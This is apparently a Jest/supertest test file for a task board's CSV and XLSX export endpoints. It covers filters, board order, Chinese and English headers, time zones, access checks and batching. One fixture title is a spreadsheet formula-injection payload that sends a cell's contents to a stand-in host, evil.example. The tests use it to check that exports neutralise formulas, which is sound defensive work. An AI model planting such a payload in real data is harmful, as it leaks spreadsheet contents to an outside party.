import {
  EXPORT_COLUMNS,
  EXPORT_WORDS,
  TASK_STATUSES,
  type ApiErrorBody,
  type TaskView,
} from '@duban/contracts';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { TaskQueries } from '../tasks/task-queries';
import type { ApiClient } from '../testing/api-client';
import { useTestApp } from '../testing/use-test-app';

let stories = 0;

const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);

/** The body of a binary download (supertest buffers only text by default). */
function binary(response: Response, callback: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => callback(null, Buffer.concat(chunks)));
}

async function downloadXlsx(client: ApiClient, path: string): Promise<ExcelJS.Worksheet> {
  const response = await client.get(path).buffer(true).parse(binary).expect(200);
  expect(response.headers['content-type']).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  );
  const workbook = new ExcelJS.Workbook();
  // exceljs declares its own `Buffer` (an ArrayBuffer); a Node Buffer is what it reads.
  await workbook.xlsx.load(response.body as ExcelJS.Buffer);
  expect(workbook.worksheets).toHaveLength(1);
  return workbook.worksheets[0]!;
}

function sheetRows(sheet: ExcelJS.Worksheet): ExcelJS.CellValue[][] {
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => rows.push(EXPORT_COLUMNS.map((_, index) => row.getCell(index + 1).value)));
  return rows;
}

async function downloadCsv(client: ApiClient, path: string): Promise<string[][]> {
  const response = await client.get(path).expect(200);
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(response.text.startsWith('\uFEFF')).toBe(true);
  return parse(response.text.slice(1));
}

/** Board order: columns left to right (workflow order), then down each column. */
function inBoardOrder(tasks: TaskView[]): TaskView[] {
  const compare = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0);
  return [...tasks].sort(
    (a, b) =>
      TASK_STATUSES.indexOf(a.status) - TASK_STATUSES.indexOf(b.status) || compare(a.position, b.position),
  );
}

describe('Task list exports (CSV and XLSX, with the table filters)', () => {
  const suite = useTestApp();

  /** Two departments; department A leads two tasks (one titled like a formula), B leads one A cooperates on. */
  async function story() {
    const n = ++stories;
    const a = await suite.factory.department(`Roads Bureau ${n}`);
    const b = await suite.factory.department(`Water Office ${n}`);
    const board = await suite.factory.board({ departmentIds: [a.id, b.id] });
    const leader = await suite.factory.user('leader', null);
    const roof = await suite.factory.task(board.id, {
      title: 'Repair the market roof',
      leadDepartmentId: a.id,
      responsibleLeaderId: leader.user.id,
      deadline: '2026-03-31',
    });
    const formula = await suite.factory.task(board.id, {
      title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      leadDepartmentId: a.id,
    });
    const pipes = await suite.factory.task(board.id, {
      title: 'Replace the old water pipes',
      kind: 'rectification',
      leadDepartmentId: b.id,
      cooperatingDepartmentIds: [a.id],
      deadline: '2026-06-30',
    });
    const elsewhere = await suite.factory.task(board.id, { title: 'Nobody leads this yet' });
    return { a, b, board, leader, roof, formula, pipes, elsewhere };
  }

  it('writes exactly the filtered rows to XLSX in board order, with dates as dates and formulas as text', async () => {
    const { a, board, leader, roof, formula, pipes } = await story();

    const sheet = await downloadXlsx(suite.admin, `/api/boards/${board.id}/export.xlsx?dept=${a.id}&lang=en`);

    const [header, ...rows] = sheetRows(sheet);
    expect(header).toEqual(EXPORT_COLUMNS.map((name) => EXPORT_WORDS.en.headers[name]));
    const expected = inBoardOrder([roof, formula, pipes]);
    expect(rows.map((row) => row[column('title')])).toEqual(
      expected.map((task) => (task.title.startsWith('=') ? `'${task.title}` : task.title)),
    );
    const roofRow = rows.find((row) => row[column('title')] === roof.title)!;
    expect(roofRow[column('status')]).toBe('Not started');
    expect(roofRow[column('kind')]).toBe('Task');
    expect(roofRow[column('leadDepartment')]).toBe(a.name);
    expect(roofRow[column('responsibleLeader')]).toBe(leader.user.displayName);
    expect(roofRow[column('deadline')]).toEqual(new Date('2026-03-31T00:00:00Z'));
    expect(roofRow[column('updatedAt')]).toBeInstanceOf(Date);
    expect(roofRow[column('progress')]).toBe(0);
    expect(roofRow[column('acknowledgedAt')]).toBeNull();
    const pipesRow = rows.find((row) => row[column('title')] === pipes.title)!;
    expect(pipesRow[column('kind')]).toBe('Rectification item');
    expect(pipesRow[column('cooperatingDepartments')]).toBe(a.name);
    // No cell the user typed can start a formula; exceljs reads a formula as an object, never a string.
    const cells = rows.flat();
    expect(
      cells.filter((cell) => typeof cell === 'object' && cell !== null && !(cell instanceof Date)),
    ).toEqual([]);
    // A frozen header row, an autofilter over it, and widths.
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(column('title') + 1).width).toBeGreaterThan(30);
    expect(sheet.getCell(2, column('deadline') + 1).numFmt).toBe('yyyy-mm-dd');
  });

  it('writes the same rows to CSV with a byte order mark, Chinese headers and words, neutralised formulas', async () => {
    const { a, board, roof, formula, pipes } = await story();

    const [header, ...rows] = await downloadCsv(
      suite.admin,
      `/api/boards/${board.id}/export.csv?dept=${a.id}&lang=zh-CN`,
    );

    expect(header).toEqual(EXPORT_COLUMNS.map((name) => EXPORT_WORDS['zh-CN'].headers[name]));
    expect(header!.slice(3, 6)).toEqual(['牵头单位', '配合单位', '责任领导']);
    expect(header![column('deadline')]).toBe('办理时限');
    const expected = inBoardOrder([roof, formula, pipes]);
    expect(rows.map((row) => row[column('title')])).toEqual(
      expected.map((task) => (task.title.startsWith('=') ? `'${task.title}` : task.title)),
    );
    const roofRow = rows.find((row) => row[column('title')] === roof.title)!;
    expect(roofRow[column('status')]).toBe('未开始');
    expect(roofRow[column('deadline')]).toBe('2026-03-31');
    expect(roofRow[column('updatedAt')]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(rows.find((row) => row[column('title')] === pipes.title)![column('kind')]).toBe('整改事项');
  });

  it('narrows by kind and search like the table, and writes times on the asked time zone', async () => {
    const { board, pipes, roof } = await story();

    const rectification = await downloadCsv(
      suite.admin,
      `/api/boards/${board.id}/export.csv?kind=rectification&lang=en`,
    );
    expect(rectification.slice(1).map((row) => row[column('title')])).toEqual([pipes.title]);
    const searched = await downloadCsv(suite.admin, `/api/boards/${board.id}/export.csv?q=MARKET&lang=en`);
    expect(searched.slice(1).map((row) => row[column('title')])).toEqual([roof.title]);

    const shanghai = await downloadCsv(
      suite.admin,
      `/api/boards/${board.id}/export.csv?q=market&tz=Asia/Shanghai`,
    );
    const updated = new Date(roof.updatedAt);
    const inShanghai = new Date(updated.getTime() + 8 * 3600_000)
      .toISOString()
      .slice(0, 16)
      .replace('T', ' ');
    expect(shanghai[1]![column('updatedAt')]).toBe(inShanghai);
  });

  it("uses the caller's saved language when the query names none", async () => {
    const { board } = await story();
    const reader = await suite.factory.user('supervisor', null);
    await reader.patch('/api/me/preferences', { language: 'zh-CN' }).expect(200);

    const [header] = await downloadCsv(reader, `/api/boards/${board.id}/export.csv`);
    expect(header![0]).toBe('标题');
    const [english] = await downloadCsv(suite.admin, `/api/boards/${board.id}/export.csv`);
    expect(english![0]).toBe('Title');
  });

  it('refuses bad filters naming them, and hides a restricted board from an outsider', async () => {
    const inside = await suite.factory.department();
    const board = await suite.factory.board({ departmentIds: [inside.id] });
    const outsider = await suite.factory.user('member', (await suite.factory.department()).id);

    for (const [query, field] of [
      ['status=finished', 'status'],
      ['dept=not-a-uuid', 'dept'],
      ['lang=fr', 'lang'],
      ['tz=Mars/Olympus', 'tz'],
      ['limit=5', 'limit'],
    ]) {
      const bad = await suite.admin.get(`/api/boards/${board.id}/export.xlsx?${query}`).expect(400);
      expect(bad.headers['content-type']).toMatch(/^application\/json/);
      expect((bad.body as ApiErrorBody).details?.map((detail) => detail.field)).toEqual([field]);
    }
    for (const format of ['csv', 'xlsx']) {
      const hidden = await outsider.get(`/api/boards/${board.id}/export.${format}`).expect(404);
      expect(hidden.headers['content-type']).toMatch(/^application\/json/);
    }
  });

  it('reads a board in batches, in board order, across columns and batch boundaries', async () => {
    const board = await suite.factory.board();
    const created: TaskView[] = [];
    for (let index = 0; index < 7; index++) {
      created.push(await suite.factory.task(board.id, { title: `Batch task ${index}` }));
    }
    // Two move to the second column: board order lists them after the whole first column.
    for (const task of [created[1]!, created[4]!]) {
      const moved = await suite.admin
        .post(`/api/tasks/${task.id}/move`, {
          status: 'in_progress',
          afterTaskId: null,
          version: task.version,
        })
        .expect(200);
      created[created.indexOf(task)] = moved.body as TaskView;
    }
    const queries = suite.testApp.app.get(TaskQueries);

    const batches: TaskView[][] = [];
    for await (const batch of queries.inBoardOrder(board.id, { batchSize: 3 })) batches.push(batch);

    // todo: 5 tasks (a batch of 3, then 2), in_progress: 2 (a batch of its own).
    expect(batches.map((batch) => batch.length)).toEqual([3, 2, 2]);
    expect(batches[2]!.map((task) => task.status)).toEqual(['in_progress', 'in_progress']);
    expect(batches.flat().map((task) => task.id)).toEqual(inBoardOrder(created).map((task) => task.id));
  });
});
